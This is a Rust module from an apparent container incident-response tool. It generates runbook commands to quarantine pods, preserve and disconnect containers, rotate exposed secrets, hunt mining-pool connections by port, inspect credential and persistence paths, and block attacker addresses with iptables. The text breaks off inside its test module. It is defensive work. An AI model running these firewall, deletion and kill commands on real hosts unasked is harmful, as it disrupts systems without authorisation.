//! The response plan: what to do now, derived from the containers, the facts and the story
//! (verdicts, hosts by side), with the exact commands in the CLI of the runtime the capture
//! says each container runs under ([`runtime`]). Ordered as a responder works: take a
//! Kubernetes pod out of the cluster's reach, record and freeze, preserve, capture what is
//! missing, cut off (the host-side veth only once checked, [`veth`]), act on what the findings
//! say, block only what should be blocked ([`block`]), kill last. Attacker-side containers
//! are preserved and stopped as the attacker's tools, never restored; inconclusive ones get
//! the captures a judgement needs.

mod block;
mod net;
mod runtime;
mod veth;

pub(crate) use net::Cidr;

use std::collections::{BTreeMap, BTreeSet};

use crate::analyze::attribution::Owners;
use crate::analyze::story::hosts::HostRecord;
use crate::analyze::story::Story;
use crate::bundle::Evidence;
use crate::evidence::ArtifactKind;
use crate::model::{ContainerRef, Finding, Role};
use crate::shell::quote as q;
use block::Decision;
use runtime::{Runtime, TOP_COLUMNS};

/// Characters of a finding summary quoted in a step's `why`.
const QUOTE_MAX: usize = 240;
/// The date tag of evidence images: one shell variable, set once before the first step by
/// [`DATE_ASSIGNMENT`] (the `sh` plan writes it at its top), so every file of one response
/// carries the same date even when the response runs past midnight.
const DATE: &str = "${DATE}";
/// The assignment every plan's commands expect to have run once, first.
pub(crate) const DATE_ASSIGNMENT: &str = "DATE=$(date -u +%Y%m%d)";

/// Finding rules named in the `why` of a containment step (the rest are counted).
const ANSWERS_SHOWN: usize = 4;
/// The label a quarantined pod gets, selected by the deny-all NetworkPolicy.
const QUARANTINE_LABEL: &str = "ctriage.io/quarantine";

/// What the plan is told besides the evidence.
#[derive(Clone, Copy, Debug)]
pub(crate) struct PlanOptions<'a> {
    /// What the story concluded: verdicts and hosts by side.
    pub story: &'a Story,
    /// Networks never blocked (`--trusted-net`).
    pub trusted: &'a [Cidr],
}

/// A step of the response plan.
#[derive(Debug, Clone, serde::Serialize, PartialEq, Eq)]
pub struct ResponseStep {
    pub step: String,
    pub why: String,
    /// Exact commands to run on the host (when the container is still live there).
    pub commands: Vec<String>,
}

/// How a container is on the network.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Net {
    /// Its own namespace with a veth (bridge, user-defined or CNI networks).
    Bridge,
    /// The host's namespace.
    Host,
    /// No network (`--network none`).
    None,
    /// Another container's namespace (`container:<id>`).
    Container(String),
}

/// A container the plan acts on.
struct PlanContainer {
    name: String,
    id: String,
    running: bool,
    /// Networks to disconnect; None when unknown.
    networks: Option<Vec<String>>,
    net: Net,
    /// Kubernetes pod namespace and name, when known.
    pod: Option<(String, String)>,
    /// The container's name in its pod (`io.kubernetes.container.name`), when it differs
    /// from `name` (a record named `<namespace>/<pod>/<container>`).
    pod_container: Option<String>,
    runtime: Runtime,
    /// The story's verdict of it and why (`compromised`, `attacker-side`, `inconclusive`...).
    verdict: Option<(&'static str, String)>,
    /// A data root in the bundle holds its read-write layer (what diff and export would give).
    layer_held: bool,
}

impl PlanContainer {
    /// The container as the commands name it (quoted): Docker and Podman by name,
    /// containerd and the CRI by id; a pod's container known only from its logs is looked
    /// up by its pod labels when the step runs.
    fn h(&self) -> String {
        match (&self.runtime, &self.pod) {
            (Runtime::Docker | Runtime::Podman, _) => q(&self.name),
            (Runtime::Cri(_), Some((ns, pod))) if self.id.is_empty() => format!(
                "\"$(crictl ps -a -q --label io.kubernetes.pod.namespace={} --label io.kubernetes.pod.name={} --name {} | head -n 1)\"",
                q(ns),
                q(pod),
                q(&format!("^{}$", self.pod_container.as_deref().unwrap_or(&self.name)))
            ),
            _ => q(if self.id.is_empty() { &self.name } else { &self.id }),
        }
    }

    /// The id for `commit` (the name when none is known).
    fn commit_id(&self) -> String {
        if self.id.is_empty() {
            self.h()
        } else {
            q(&self.id)
        }
    }

    fn status(&self) -> Option<&'static str> {
        self.verdict.as_ref().map(|(s, _)| *s)
    }

    fn attacker_side(&self) -> bool {
        self.status() == Some("attacker-side")
    }

    fn who(&self) -> ContainerRef {
        ContainerRef { id: self.id.clone(), name: self.name.clone() }
    }
}

/// The name of the plan target a finding belongs to (its typed owner), when it is one's.
fn owner_name(f: &Finding, targets: &[PlanContainer]) -> Option<String> {
    let c = f.owner.as_ref().and_then(crate::model::Owner::as_container)?;
    targets.iter().find(|t| c.same(&t.who())).map(|t| t.name.clone()).or_else(|| Some(c.handle().to_string()))
}

/// Steps for the responder, in order.
pub(crate) fn plan(report: &Evidence, findings: &[Finding], opts: &PlanOptions) -> Vec<ResponseStep> {
    let targets = targets(report, opts.story);
    let owners = Owners::new(&report.containers, report.data_root.as_ref(), &report.image.images);
    let mut steps = vec![];
    let have: BTreeSet<ArtifactKind> = report.artifacts.iter().map(|a| a.kind).collect();
    // Rules of the facts about each container (typed owners; when the bundle holds one
    // container, every fact of the bundle is about it). Most severe first (facts come
    // sorted), at most ANSWERS_SHOWN named.
    let mut rules_of: BTreeMap<String, Vec<&str>> = BTreeMap::new();
    let single = (targets.len() == 1).then(|| targets[0].name.clone());
    for f in findings {
        let owner = single.clone().or_else(|| owner_name(f, &targets));
        if let Some(owner) = owner {
            let rules = rules_of.entry(owner).or_default();
            if !rules.contains(&f.rule.as_str()) {
                rules.push(f.rule.as_str());
            }
        }
    }
    let answers = |name: &str| -> String {
        match rules_of.get(name) {
            Some(rules) if rules.len() > ANSWERS_SHOWN => format!(
                "answers {} and {} more",
                rules[..ANSWERS_SHOWN].join(", "),
                rules.len() - ANSWERS_SHOWN
            ),
            Some(rules) => format!("answers {}", rules.join(", ")),
            None => "no finding names it, but it is part of this incident's evidence".into(),
        }
    };
    // What the verdict says of it, said first in its steps' why.
    let side = |t: &PlanContainer| -> String {
        match &t.verdict {
            Some(("attacker-side", why)) => format!(
                "{} is attacker-side ({}): the attacker's own container, kept as evidence, not a victim to restore; ",
                t.name,
                clip(why)
            ),
            _ => String::new(),
        }
    };

    // 0. A Kubernetes pod: out of the cluster's reach before anything touches it.
    for t in targets.iter().filter(|t| t.running && !t.attacker_side()) {
        if let Some((ns, pod)) = &t.pod {
            steps.push(quarantine(t, ns, pod));
        }
    }

    // 1. Record the veth (nsenter needs the PID, which the runtime may not answer later),
    // then freeze.
    let with_veth: Vec<&PlanContainer> =
        targets.iter().filter(|t| t.running && t.net == Net::Bridge).collect();
    for t in &with_veth {
        let f = veth::Files::of(&repo_name(&t.name));
        steps.push(ResponseStep {
            step: format!("Record the host-side network interface of {} (before pausing)", t.name),
            why: format!(
                "asked of the kernel in the container's network namespace (nsenter -n ip: netlink, nothing read from \
                 the container's files, nothing run inside it): its eth0's index and its peer's, the host ifindex \
                 of its veth, saved to {} and {} and read back to cut it off later; {}",
                f.ifindex,
                f.iflink,
                answers(&t.name)
            ),
            commands: veth::record(&t.runtime.pid(&t.h()), &f),
        });
    }
    for t in targets.iter().filter(|t| t.running) {
        let offline = match t.net {
            Net::None => "; it has no network (network mode none): nothing to disconnect",
            _ => "",
        };
        steps.push(ResponseStep {
            step: if t.attacker_side() {
                format!("Freeze attacker-side container {}", t.name)
            } else {
                format!("Freeze {}", t.name)
            },
            why: format!("{}{}; {}{offline}", side(t), t.runtime.pause_why(), answers(&t.name)),
            commands: vec![t.runtime.pause(&t.h())],
        });
    }

    // 2. Preserve: the container as an image, and whatever the bundle lacks.
    for t in &targets {
        let image = format!("\"ctriage-evidence/{}:{DATE}\"", repo_name(&t.name));
        let file = format!("\"{}-{DATE}.image.tar\"", repo_name(&t.name));
        steps.push(ResponseStep {
            step: if t.attacker_side() {
                format!("Preserve attacker-side container {} as evidence", t.name)
            } else {
                format!("Preserve {} as an evidence image", t.name)
            },
            why: format!("{}{}; {}", side(t), t.runtime.preserve_why(), answers(&t.name)),
            commands: t.runtime.preserve(&t.commit_id(), &image, &file, &t.h()),
        });
        if let Some(step) = capture(t, &have) {
            steps.push(step);
        }
    }

    // 3. Contain: off the network.
    for t in targets.iter().filter(|t| t.running) {
        let h = t.h();
        match &t.net {
            Net::None => {}
            Net::Host => steps.push(ResponseStep {
                step: format!("Block {}'s traffic on the host firewall", t.name),
                why:
                    "it shares the host's network namespace: there is no network to disconnect and no veth; \
                      filter by its processes or stop it"
                        .into(),
                commands: vec![t.runtime.top(&h, "pid,args"), "ss -tnp".into()],
            }),
            Net::Container(other) => {
                let lead = targets.iter().find(|o| o.id.starts_with(other.as_str()) || o.name == *other);
                let shown = lead.map(|o| o.name.clone()).unwrap_or_else(|| other.clone());
                steps.push(ResponseStep {
                    step: format!("Cut {} off through {shown}, whose network it shares", t.name),
                    why: format!(
                        "it joined {shown}'s network namespace (network mode container:{other}): it has no network of \
                         its own to disconnect; {}",
                        if lead.is_some() {
                            format!("{shown}'s own steps cut both off")
                        } else {
                            format!("disconnecting {shown} (or taking its veth down) cuts both off")
                        }
                    ),
                    commands: if lead.is_some() {
                        vec![]
                    } else {
                        t.runtime.disconnect_all(&q(other)).into_iter().collect()
                    },
                });
            }
            Net::Bridge => {
                let disconnect: Vec<String> = match &t.networks {
                    Some(nets) if !nets.is_empty() => {
                        nets.iter().filter_map(|net| t.runtime.disconnect(net, &h)).collect()
                    }
                    _ => t.runtime.disconnect_all(&h).into_iter().collect(),
                };
                let can_disconnect = !disconnect.is_empty();
                if can_disconnect {
                    steps.push(ResponseStep {
                        step: format!("Disconnect {} from its networks", t.name),
                        why: format!(
                            "{}cuts the attacker's channel and any lateral movement; {}",
                            side(t),
                            answers(&t.name)
                        ),
                        commands: disconnect,
                    });
                }
                let f = veth::Files::of(&repo_name(&t.name));
                let only = with_veth.len() == 1;
                let checked = veth::check(&t.who(), &report.ip_links, &owners, only);
                steps.push(ResponseStep {
                    step: format!("Take {}'s host-side veth down", t.name),
                    why: format!(
                        "{}; only a veth whose peer is the container's eth0 (ip -d says veth, its peer index is the \
                         container's eth0, its peer is in another namespace) is taken down, anything else is refused \
                         (a macvlan or ipvlan container's eth0 names the host's own interface); {}",
                        if can_disconnect {
                            "if the disconnect fails or the runtime does not answer, the veth recorded in the first step \
                             still cuts the container off at the host"
                                .to_string()
                        } else {
                            format!(
                                "{} cannot disconnect a container from its networks: the veth recorded in the first \
                                 step cuts it off at the host",
                                t.runtime.name()
                            )
                        },
                        checked
                    ),
                    commands: veth::down(&t.name, &f),
                });
            }
        }
    }

    // 4. An attacker-side container: how did it get here?
    for t in targets.iter().filter(|t| t.attacker_side()) {
        steps.push(ResponseStep {
            step: format!("Find how attacker-side container {} got onto this host", t.name),
            why: format!(
                "{}someone started the attacker's container here: they could use the runtime (its API or socket, a \
                 user allowed to run it, an escape from another container); find which before trusting the host",
                side(t)
            ),
            commands: t.runtime.provenance(&t.h()),
        });
    }

    // 5. What the findings call for.
    finding_steps(&mut steps, &targets, findings, report, opts);

    // 6. Kill last, once the evidence is safe.
    for t in targets.iter().filter(|t| t.running) {
        let cri = matches!(t.runtime, Runtime::Cri(_));
        steps.push(ResponseStep {
            step: if t.attacker_side() {
                format!("Stop attacker-side container {} once it is preserved", t.name)
            } else {
                format!("Kill {} once its evidence is saved", t.name)
            },
            why: format!(
                "{}{}{}",
                side(t),
                if t.attacker_side() {
                    "stopping it ends the attacker's foothold; do not restart or restore it"
                } else {
                    "last: killing ends the attacker's processes but also loses memory and process state"
                },
                if cri {
                    "; the kubelet starts it again from its pod spec unless the pod is deleted or its workload \
                     scaled down: do that once the hole is fixed (the quarantine label and policy stay on the pod)"
                } else {
                    ""
                }
            ),
            commands: vec![t.runtime.kill(&t.h())],
        });
    }
    steps
}

/// Label the pod, isolate it with a deny-all NetworkPolicy, cordon its node.
fn quarantine(t: &PlanContainer, ns: &str, pod: &str) -> ResponseStep {
    let policy = format!(
        "{{\"apiVersion\":\"networking.k8s.io/v1\",\"kind\":\"NetworkPolicy\",\"metadata\":{{\"name\":\"ctriage-quarantine\"}},\"spec\":{{\"podSelector\":{{\"matchLabels\":{{\"{QUARANTINE_LABEL}\":\"true\"}}}},\"policyTypes\":[\"Ingress\",\"Egress\"]}}}}"
    );
    ResponseStep {
        step: format!("Quarantine pod {ns}/{pod} ({}) in the cluster", t.name),
        why: "a Kubernetes pod: label it, isolate it with a deny-all NetworkPolicy (enforced when the cluster's \
              network plugin enforces policies) and cordon its node so nothing new is scheduled there; do not \
              delete it yet: its controller would replace it and the evidence would go with it"
            .into(),
        commands: vec![
            format!("kubectl -n {} label pod {} {QUARANTINE_LABEL}=true --overwrite", q(ns), q(pod)),
            format!("echo '{policy}' | kubectl -n {} apply -f -", q(ns)),
            format!("kubectl cordon \"$(kubectl -n {} get pod {} -o jsonpath='{{.spec.nodeName}}')\"", q(ns), q(pod)),
        ],
    }
}

/// The captures a container still needs: for an inconclusive one, everything a judgement
/// needs; otherwise what the bundle holds none of.
fn capture(t: &PlanContainer, have: &BTreeSet<ArtifactKind>) -> Option<ResponseStep> {
    let stem = repo_name(&t.name);
    let h = t.h();
    let rt = &t.runtime;
    let inconclusive = t.status() == Some("inconclusive");
    let mut commands = vec![];
    let mut lacking = vec![];
    let mut want = |held: bool, what: &'static str, cmd: Option<String>| {
        if let Some(cmd) = cmd.filter(|_| !held) {
            lacking.push(what);
            commands.push(cmd);
        }
    };
    // An inconclusive container's configuration was read; the rest is taken again, its own.
    let has = |k: ArtifactKind| have.contains(&k) && (k == ArtifactKind::Inspect || !inconclusive);
    want(has(ArtifactKind::Inspect), "inspect", Some(rt.inspect(&h, &format!("{stem}.inspect.json"))));
    want(
        !inconclusive && have.iter().any(|k| k.is_container_output()),
        "logs",
        Some(rt.logs(&h, &format!("{stem}.logs.txt"))),
    );
    if t.running {
        want(has(ArtifactKind::Top), "top", Some(format!("{} > {stem}.top.txt", rt.top(&h, TOP_COLUMNS))));
    }
    want(has(ArtifactKind::Diff) || t.layer_held, "diff", rt.diff(&h, &format!("{stem}.diff.txt")));
    want(
        has(ArtifactKind::FilesystemTar) || t.layer_held,
        "export",
        Some(rt.export(&h, &format!("{stem}.export.tar"))),
    );
    if commands.is_empty() {
        return None;
    }
    commands.push(format!("sha256sum {stem}.* > {stem}.sha256"));
    Some(match (&t.verdict, inconclusive) {
        (Some((_, why)), true) => ResponseStep {
            step: format!("Capture what is missing to judge {}: {}", t.name, lacking.join(", ")),
            why: format!(
                "its verdict is inconclusive ({}): take these, then scan them with the rest of the bundle",
                clip(why)
            ),
            commands,
        },
        _ => ResponseStep {
            step: format!("Capture what this bundle lacks for {}: {}", t.name, lacking.join(", ")),
            why: "the bundle holds no such capture; take it before the container is gone".into(),
            commands,
        },
    })
}

fn finding_steps(
    steps: &mut Vec<ResponseStep>,
    targets: &[PlanContainer],
    findings: &[Finding],
    report: &Evidence,
    opts: &PlanOptions,
) {
    let by_rule = |rule: &str| -> Vec<&Finding> { findings.iter().filter(|f| f.rule == rule).collect() };
    let owner = |f: &Finding| owner_name(f, targets).unwrap_or_default();
    let target = |name: &str| targets.iter().find(|t| t.name == name);
    // Secrets and tokens of the attacker's own container are not ours to rotate.
    let ours = |f: &Finding| !target(&owner(f)).is_some_and(PlanContainer::attacker_side);
    // Every runtime the plan acts through (Docker when it names none).
    let mut runtimes: Vec<&Runtime> = targets.iter().map(|t| &t.runtime).collect();
    runtimes.sort();
    runtimes.dedup();
    if runtimes.is_empty() {
        runtimes.push(&Runtime::Docker);
    }

    let escape: Vec<&Finding> = findings.iter().filter(|f| f.kind.role == Role::Escape).collect();
    if !escape.is_empty() {
        let names: BTreeSet<String> = escape.iter().map(|f| owner(f)).collect();
        let rules: BTreeSet<&str> = escape.iter().map(|f| f.rule.as_str()).collect();
        let mut commands: Vec<String> = runtimes.iter().flat_map(|r| r.survey()).collect();
        commands.extend([
            "ls -la /etc/cron.d /var/spool/cron /root/.ssh /etc/systemd/system /etc/ld.so.preload".into(),
            "find / -xdev -newer /etc/hostname -type f \\( -perm -4000 -o -path '/tmp/*' -o -path '/dev/shm/*' \\) -ls 2>/dev/null"
                .into(),
            "last -Faiw | head -50".into(),
        ]);
        steps.push(ResponseStep {
            step: "Check the host and every other container: an escape is likely".into(),
            why: format!(
                "{} could reach the host ({}); assume the host and its other containers are compromised \
                 until shown otherwise",
                names.into_iter().collect::<Vec<_>>().join(", "),
                rules.into_iter().collect::<Vec<_>>().join(", ")
            ),
            commands,
        });
    }

    // Secrets: per container, names only.
    let mut secrets: BTreeMap<String, Vec<&Finding>> = BTreeMap::new();
    for f in by_rule("exposure.env-secrets").into_iter().filter(|f| ours(f)) {
        secrets.entry(owner(f)).or_default().push(f);
    }
    for (name, fs) in secrets {
        let names = fs.first().map(|f| secret_names(&f.summary)).unwrap_or_default();
        steps.push(ResponseStep {
            step: format!("Rotate the secrets in {name}'s environment: {names}"),
            why: "exposure.env-secrets: every process in the container (and the attacker) could read them; \
                  change them where they are issued and check their use since the compromise"
                .into(),
            commands: vec![],
        });
    }

    // A token mounted (inspect) or held (kubelet pod directory): one step per container.
    let mut rotated = BTreeSet::new();
    let tokens = by_rule("exposure.k8s-token").into_iter().chain(by_rule("exposure.sa-token-held"));
    for f in tokens.filter(|f| ours(f)) {
        let name = owner(f);
        if !rotated.insert(name.clone()) {
            continue;
        }
        let (ns, pod) = target(&name)
            .and_then(|t| t.pod.clone())
            .unwrap_or_else(|| ("<namespace>".into(), "<pod>".into()));
        steps.push(ResponseStep {
            step: format!("Revoke and rotate the Kubernetes service account of {name}"),
            why: format!(
                "{}: the mounted token lets the attacker call the cluster API; see what it may do, what it did \
                 (API server audit log), and invalidate it",
                f.rule
            ),
            commands: vec![
                format!("NS={}; POD={}", q(&ns), q(&pod)),
                "SA=$(kubectl -n \"$NS\" get pod \"$POD\" -o jsonpath='{.spec.serviceAccountName}')".into(),
                "kubectl auth can-i --list \"--as=system:serviceaccount:$NS:$SA\"".into(),
                "kubectl get rolebindings,clusterrolebindings -A -o wide | grep -w \"$SA\"".into(),
                "grep \"system:serviceaccount:$NS:$SA\" /var/log/kubernetes/audit/audit.log".into(),
                "kubectl -n \"$NS\" delete pod \"$POD\"   # bound tokens die with the pod; delete legacy token secrets of $SA too".into(),
            ],
        });
    }

    for f in findings.iter().filter(|f| f.kind.role == Role::CpuHigh) {
        let name = owner(f);
        let (rt, h) = match target(&name) {
            Some(t) => (t.runtime.clone(), t.h()),
            None => (Runtime::Docker, q(&name)),
        };
        steps.push(ResponseStep {
            step: format!("Look for a cryptominer in {name} and its pool connections"),
            why: format!("{}: {}", f.rule, clip(&f.summary)),
            commands: vec![
                rt.top(&h, "pid,ppid,user,pcpu,lstart,args"),
                format!("nsenter -t \"{}\" -n ss -tnp", rt.pid(&h)),
                "conntrack -L -p tcp 2>/dev/null | grep -E 'dport=(3333|4444|5555|7777|9999|14444|45700)'"
                    .into(),
            ],
        });
    }

    block_steps(steps, report, opts, &runtimes);
}

/// Block what the attack used and that worked; say who relayed it and what is only hunted.
fn block_steps(steps: &mut Vec<ResponseStep>, report: &Evidence, opts: &PlanOptions, runtimes: &[&Runtime]) {
    let decisions = block::decisions(report, opts.story, opts.trusted);
    if decisions.is_empty() {
        return;
    }
    let said = |h: &HostRecord| format!("{}: {}", h.value, clip(&h.reasons.join("; ")));
    let blocked: Vec<&HostRecord> =
        decisions.iter().filter(|(_, d)| *d == Decision::Block).map(|(h, _)| *h).collect();
    if !blocked.is_empty() {
        // Docker's DOCKER-USER chain sees its containers' traffic first; other runtimes' go
        // through FORWARD (Docker's too, ahead of its own rules, when inserted at the top).
        let chain = if runtimes.iter().all(|r| r.is_docker()) { "DOCKER-USER" } else { "FORWARD" };
        let block: Vec<String> = blocked
            .iter()
            .filter(|h| h.kind == "ip")
            .flat_map(|h| {
                let tool = if h.value.contains(':') { "ip6tables" } else { "iptables" };
                [
                    format!("{tool} -I {chain} -d {} -j DROP", h.value),
                    format!("{tool} -I {chain} -s {} -j DROP", h.value),
                ]
            })
            .collect();
        let names: Vec<&str> =
            blocked.iter().filter(|h| h.kind == "domain").map(|h| h.value.as_str()).collect();
        let names = if names.is_empty() {
            String::new()
        } else {
            format!("; block these host names at the DNS resolver or egress proxy: {}", names.join(", "))
        };
        steps.push(ResponseStep {
            step: "Block the attacker's addresses".into(),
            why: format!(
                "only what the attack used and that worked: a sender whose attempt succeeded, the hosts a payload or \
                 process called back to, payload servers and mining pools (never the container's own addresses, \
                 the servers the requests named, loopback, a private or relaying address, --trusted-net): {}{names}",
                blocked.iter().map(|h| said(h)).collect::<Vec<_>>().join("; ")
            ),
            commands: block,
        });
    }
    // Relays and private addresses: found, not dropped.
    let mut whys = vec![];
    let mut commands = vec![];
    for (h, d) in &decisions {
        match d {
            Decision::Relay { private, forwarded } => {
                let mut w = format!("{} relayed it: check your proxy logs for the real client", h.value);
                if let Some(range) = private {
                    w.push_str(&format!(
                        " ({range} address: a proxy, load balancer or NAT of your own network)"
                    ));
                }
                if !forwarded.is_empty() {
                    w.push_str(&format!(
                        "; its requests carried X-Forwarded-For {} (set by the client, may be forged)",
                        forwarded.join(" | ")
                    ));
                }
                w.push_str(&format!("; what it passed on: {}", clip(&h.reasons.join("; "))));
                whys.push(w);
                if private.is_some() {
                    commands.push(format!("ip neigh show to {}", h.value));
                }
            }
            Decision::Private(range) => {
                let container = report
                    .containers
                    .iter()
                    .find(|c| {
                        c.network.ip_address.as_deref() == Some(h.value.as_str())
                            || c.network
                                .networks
                                .iter()
                                .any(|n| n.ip_address.as_deref() == Some(h.value.as_str()))
                    })
                    .map(|c| format!(" (the address of container {})", c.handle()))
                    .unwrap_or_default();
                whys.push(format!(
                    "{} is a {range} address{container} the attack used ({}): a host of your own network; find what \
                     it is before blocking it",
                    h.value,
                    clip(&h.reasons.join("; "))
                ));
                commands.push(format!("ip neigh show to {}", h.value));
            }
            _ => {}
        }
    }
    if !whys.is_empty() {
        steps.push(ResponseStep {
            step: "Find who is behind the relaying and private addresses (not blocked)".into(),
            why: whys.join("; "),
            commands,
        });
    }
    // Hunt for everything attacker-side but a relay or a trusted address.
    let hunted: Vec<&HostRecord> = decisions
        .iter()
        .filter(|(_, d)| !matches!(d, Decision::Relay { .. } | Decision::Trusted(_)))
        .map(|(h, _)| *h)
        .collect();
    let mut not_blocked: Vec<String> = decisions
        .iter()
        .filter_map(|(h, d)| match d {
            Decision::Attempted => {
                Some(format!("{} (its attempts did not get in: {})", h.value, clip(&h.reasons.join("; "))))
            }
            Decision::Trusted(n) => Some(format!("{} (in --trusted-net {n})", h.value)),
            _ => None,
        })
        .collect();
    if !hunted.is_empty() {
        let pats: String = hunted.iter().map(|h| format!(" -e {}", q(&h.value))).collect();
        let mut dirs: Vec<&str> = runtimes.iter().flat_map(|r| r.log_dirs().iter().copied()).collect();
        dirs.dedup();
        dirs.push("/var/log");
        let why = if not_blocked.is_empty() {
            String::new()
        } else {
            format!("; not blocked: {}", std::mem::take(&mut not_blocked).join("; "))
        };
        steps.push(ResponseStep {
            step: "Hunt for the same indicators on other hosts and containers".into(),
            why: format!(
                "the same exploit is usually sprayed at every exposed host, and the same infrastructure serves every victim{why}"
            ),
            commands: vec![format!("grep -rIlF{pats} {}", dirs.join(" "))],
        });
    }
    if !not_blocked.is_empty() {
        steps.push(ResponseStep {
            step: "Leave the trusted addresses alone".into(),
            why: format!("not blocked: {}", not_blocked.join("; ")),
            commands: vec![],
        });
    }
}

/// The containers to act on: from container records, else from ps listings, else from a
/// Kubernetes pod's CRI logs; sorted by name.
fn targets(report: &Evidence, story: &Story) -> Vec<PlanContainer> {
    let verdict_of = |who: &ContainerRef| -> Option<(&'static str, String)> {
        story
            .verdicts
            .iter()
            .find(|v| {
                let vr = ContainerRef {
                    id: v.id.clone().unwrap_or_default(),
                    name: v.container.clone().unwrap_or_default(),
                };
                (!vr.id.is_empty() || !vr.name.is_empty())
                    && (vr.same(who) || (!who.name.is_empty() && vr.name == who.name))
            })
            .map(|v| (v.status, v.reason.clone()))
    };
    let held: BTreeSet<&str> = report
        .data_root
        .iter()
        .flat_map(|d| d.docker.iter().chain(&d.containers_storage).chain(&d.containerd))
        .flat_map(|r| r.containers.iter())
        .filter(|c| c.upper_dir.is_some())
        .map(|c| c.id.as_str())
        .collect();
    let mut out: BTreeMap<String, PlanContainer> = BTreeMap::new();
    for c in &report.containers {
        let h = c.host_config.as_ref();
        let mode = h.and_then(|h| h.network_mode.as_deref()).unwrap_or("");
        let label = |k: &str| c.config.labels.get(k).filter(|v| !v.is_empty()).cloned();
        let networks: Vec<String> = c.network.networks.iter().map(|n| n.name.clone()).collect();
        let net = if mode == "host" || networks_are(c, "host") {
            Net::Host
        } else if mode == "none" || networks_are(c, "none") {
            Net::None
        } else if let Some(other) = mode.strip_prefix("container:") {
            Net::Container(other.to_string())
        } else {
            Net::Bridge
        };
        let who = ContainerRef { id: c.id.clone(), name: c.handle().to_string() };
        out.entry(c.handle().to_string()).or_insert(PlanContainer {
            name: c.handle().to_string(),
            id: c.id.clone(),
            // A pod's container known from its logs and an audit event: running as far as
            // the evidence tells (its CRI logs are being written), like the logs-only case.
            running: c.state.running
                || c.state.paused
                || c.state.restarting
                || c.source == crate::ingest::inspect::InspectSource::PodLogs,
            networks: (!networks.is_empty()).then_some(networks),
            net,
            pod: label("io.kubernetes.pod.namespace").zip(label("io.kubernetes.pod.name")),
            pod_container: label("io.kubernetes.container.name"),
            runtime: runtime::of_container(c, report),
            verdict: verdict_of(&who),
            layer_held: held.contains(c.id.as_str()),
        });
    }
    if out.is_empty() {
        for r in &report.ps {
            let networks = (!r.networks.is_empty()).then(|| r.networks.clone());
            let net = match r.networks.as_slice() {
                [only] if only == "host" => Net::Host,
                [only] if only == "none" => Net::None,
                _ => Net::Bridge,
            };
            let who = ContainerRef { id: r.container_id.clone(), name: r.handle().to_string() };
            out.entry(r.handle().to_string()).or_insert(PlanContainer {
                name: r.handle().to_string(),
                id: r.container_id.clone(),
                running: r.is_running(),
                networks,
                net,
                pod: None,
                pod_container: None,
                runtime: Runtime::Docker,
                verdict: verdict_of(&who),
                layer_held: false,
            });
        }
    }
    if out.is_empty() {
        // Kubelet's `var/log/pods/<namespace>_<pod>_<uid>/<container>/<n>.log`.
        for a in report.artifacts.iter().filter(|a| a.kind == ArtifactKind::CriLog) {
            let mut parts = a.path.split('/').skip_while(|p| *p != "pods").skip(1);
            let (Some(dir), Some(container)) = (parts.next(), parts.next()) else { continue };
            let mut pod = dir.splitn(3, '_');
            let (Some(ns), Some(pod), Some(_uid)) = (pod.next(), pod.next(), pod.next()) else { continue };
            if parts.next().is_none() || !a.path.contains("log/pods/") {
                continue;
            }
            let who = ContainerRef { id: String::new(), name: container.to_string() };
            out.entry(format!("{ns}/{pod}/{container}")).or_insert(PlanContainer {
                name: container.to_string(),
                id: String::new(),
                running: true,
                networks: None,
                net: Net::Bridge,
                pod: Some((ns.to_string(), pod.to_string())),
                pod_container: None,
                runtime: Runtime::Cri(None),
                verdict: verdict_of(&who),
                layer_held: false,
            });
        }
    }
    out.into_values().collect()
}

fn networks_are(c: &crate::ingest::inspect::ContainerInfo, name: &str) -> bool {
    matches!(c.network.networks.as_slice(), [only] if only.name == name)
}

/// A container name as an image repository component: lower case, `[a-z0-9_.-]`.
fn repo_name(name: &str) -> String {
    let s: String = name
        .chars()
        .map(|c| c.to_ascii_lowercase())
        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-') { c } else { '_' })
        .collect();
    let s = s.trim_start_matches(['_', '.', '-']);
    if s.is_empty() {
        "container".into()
    } else {
        s.to_string()
    }
}

fn clip(s: &str) -> String {
    if s.chars().count() <= QUOTE_MAX {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(QUOTE_MAX).collect::<String>())
    }
}

/// The variable names an env-secrets finding lists (`...: NAME, NAME; why`).
fn secret_names(summary: &str) -> String {
    summary.split_once("): ").map(|(_, r)| r).unwrap_or(summary).split(';').next().unwrap_or("").to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::story::hosts::{Act, HostRole};
    use crate::analyze::story::Verdict;
    use crate::bundle::ArtifactRecord;
    use crate::compression::Compression;
    use crate::evidence::BundleKind;
    use crate::ingest::inspect::parse_bytes;
    use crate::ingest::iplink;
    use crate::ingest::pslist::PsRow;
    use crate::model::{Locator, Severity};

    const INSPECT: &str = r#"[{"Id":"4f2a9c1be0d3aa55e0f1c2d3b4a59687","Name":"/web",
        "State":{"Running":true,"Pid":84010,"StartedAt":"2026-11-27T13:58:02Z"},
        "HostConfig":{"Privileged":true,"NetworkMode":"bridge"},
        "Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true}],
        "Config":{"Env":["DB_PASSWORD=x1","API_TOKEN=y2"],"Image":"tomcat"},
        "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.2"},"backend":{"IPAddress":"172.20.0.5"}}}},
        {"Id":"9c1e7b2a8f0011","Name":"/old","State":{"Running":false,"StartedAt":"2026-11-27T10:00:00Z",
        "FinishedAt":"2026-11-27T11:00:00Z"},"Config":{"User":"app"}}]"#;

    /// A test bundle: its evidence and the story the plan reads.
    struct Case {
        evidence: Evidence,
        story: Story,
    }

    impl std::ops::Deref for Case {
        type Target = Evidence;
        fn deref(&self) -> &Evidence {
            &self.evidence
        }
    }

    impl std::ops::DerefMut for Case {
        fn deref_mut(&mut self) -> &mut Evidence {
            &mut self.evidence
        }
    }

    fn bundle(kinds: &[ArtifactKind]) -> Case {
        let records = kinds
            .iter()
            .map(|k| ArtifactRecord {
                path: k.as_str().into(),
                kind: *k,
                size: 1,
                sha256: None,
                compression: Compression::None,
                error: None,
                note: None,
            })
            .collect();
        Case {
            evidence: Evidence::new("case".into(), BundleKind::Directory, records),
            story: Story::default(),
        }
    }

    fn with_inspect(kinds: &[ArtifactKind], inspect: &str) -> Case {
        let mut b = bundle(kinds);
        let (doc, d) = parse_bytes(inspect.as_bytes(), &Locator::artifact("inspect.json"));
        assert!(d.is_empty(), "{d:?}");
